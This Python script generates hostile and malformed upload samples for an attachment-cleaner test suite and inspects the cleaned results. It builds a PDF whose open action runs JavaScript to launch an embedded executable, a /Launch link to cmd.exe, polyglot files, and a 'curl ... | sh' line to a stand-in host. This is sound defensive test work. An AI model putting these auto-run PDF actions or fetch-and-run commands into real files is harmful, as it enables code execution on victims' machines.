#!/usr/bin/env python3
"""Writes, into the folder given, the files a hostile or careless upload brings (issue 27,
finding 9), made by independent tools: Pillow encodes the images, pypdf encrypts a PDF, and the
active PDF is written object by object here with its cross-reference table.

    attachment_samples.py DIR

Used by AttachmentCleanerTests; `inspect` then reads what the cleaner returned:

    attachment_samples.py --inspect FILE   -> one JSON line describing the file
"""
import io
import json
import sys
import zlib
from pathlib import Path

from PIL import Image, ImageDraw
from pypdf import PdfReader, PdfWriter

TEXT = "RG 12.345.678-9 JOAO DA SILVA"


def pdf(objects):
    """A PDF with these numbered objects (1 is the catalogue) and a correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for o in offsets:
        out += b"%010d 00000 n \n" % o
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def active_pdf():
    """One page showing TEXT, opening with JavaScript, with a /Launch link, a JavaScript name
    tree, an embedded executable and a page action."""
    content = b"BT /F1 14 Tf 72 720 Td (" + TEXT.encode() + b") Tj ET"
    return pdf([
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(a) 5 0 R] >>"
        b" /EmbeddedFiles << /Names [(run.exe) 8 0 R] >> >> /AA << /WC 5 0 R >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << /Font << /F1 7 0 R >> >> /Annots [6 0 R] /AA << /O 5 0 R >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /S /JavaScript /JS (app.alert('pwned'); this.exportDataObject({cName: 'run.exe', nLaunch: 2});) >>",
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 740] /A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Type /Filespec /F (run.exe) /EF << /F 9 0 R >> >>",
        b"<< /Type /EmbeddedFile /Length 8 >>\nstream\nMZ\x90\x00\x03\x00\x00\x00\nendstream",
    ])


def scan_image():
    im = Image.new("RGB", (240, 160), "white")
    ImageDraw.Draw(im).rectangle((20, 20, 220, 140), outline="black", width=4)
    return im


def write_samples(folder):
    d = Path(folder)
    active = active_pdf()
    (d / "active.pdf").write_bytes(active)
    w = PdfWriter(clone_from=PdfReader(io.BytesIO(active)))
    w.encrypt(user_password="segredo", owner_password="dono", algorithm="RC4-128")
    with open(d / "locked.pdf", "wb") as f:
        w.write(f)
    (d / "script.pdf").write_bytes(b"%PDF-1.4\n#!/bin/sh\ncurl http://example.invalid/x | sh\n")
    (d / "page.pdf").write_bytes(b"<!doctype html><html><!-- %PDF-1.4 --><script>alert(1)</script></html>\n")
    (d / "elf.pdf").write_bytes(b"\x7fELF\x02\x01\x01" + b"\x00" * 100 + b"%PDF-1.7\n" + b"\x00" * 400)
    (d / "zip.pdf").write_bytes(b"PK\x03\x04\x14\x00%PDF-1.4" + b"\x00" * 200 + b"PK\x05\x06" + b"\x00" * 18)
    (d / "empty.pdf").write_bytes(pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]))

    buf = io.BytesIO()
    exif = Image.Exif()
    exif[0x010E] = "GPS -8.0476,-34.8770 casa do cliente"  # ImageDescription
    scan_image().save(buf, "JPEG", quality=90, exif=exif.tobytes(), comment=b"scanner da agencia 3")
    jpeg = buf.getvalue() + b"PK\x03\x04appended zip"
    (d / "photo.jpg").write_bytes(jpeg)
    (d / "cut.jpg").write_bytes(jpeg[: len(jpeg) // 2])
    sof = jpeg.index(b"\xff\xc0")
    huge = bytearray(jpeg)
    huge[sof + 5 : sof + 9] = (60000).to_bytes(2, "big") + (60000).to_bytes(2, "big")
    (d / "huge.jpg").write_bytes(bytes(huge))

    from PIL import PngImagePlugin
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Joao da Silva, CPF 111.444.777-35")
    buf = io.BytesIO()
    scan_image().convert("L").save(buf, "PNG", pnginfo=info)
    png = buf.getvalue() + b"<script>alert(1)</script>"
    (d / "scan.png").write_bytes(png)
    (d / "cut.png").write_bytes(png[: len(png) // 2])
    ihdr = bytearray(png[12:29])  # type + 13 bytes of data
    ihdr[4:12] = (100000).to_bytes(4, "big") + (100000).to_bytes(4, "big")
    (d / "huge.png").write_bytes(png[:12] + bytes(ihdr) + zlib.crc32(bytes(ihdr)).to_bytes(4, "big") + png[33:])


def inspect(path):
    data = Path(path).read_bytes()
    if data.startswith(b"%PDF-"):
        r = PdfReader(io.BytesIO(data))
        root = r.trailer["/Root"]
        names = root.get("/Names", {})
        pages = r.pages
        report = {
            "pages": len(pages),
            "text": " ".join(p.extract_text() for p in pages),
            "catalogue": sorted(k for k in root.keys()),
            "names": sorted(k for k in names.keys()) if names else [],
            "annotations": sum(len(p.get("/Annots", [])) for p in pages),
            "page_actions": sum(1 for p in pages if "/AA" in p),
        }
    else:
        im = Image.open(io.BytesIO(data))
        im.load()
        report = {"format": im.format, "size": list(im.size), "mode": im.mode,
                  "info": sorted(k for k in im.info.keys() if k not in ("srgb", "gamma", "dpi", "jfif", "jfif_version", "jfif_unit", "jfif_density", "progressive", "progression"))}
    for needle in (b"PK\x03\x04", b"<script>", b"GPS", b"Joao", b"/JavaScript", b"/Launch", b"MZ\x90"):
        report.setdefault("contains", []).extend([needle.decode("latin-1")] if needle in data else [])
    print(json.dumps(report))


if __name__ == "__main__":
    if sys.argv[1] == "--inspect":
        inspect(sys.argv[2])
    else:
        write_samples(sys.argv[1])
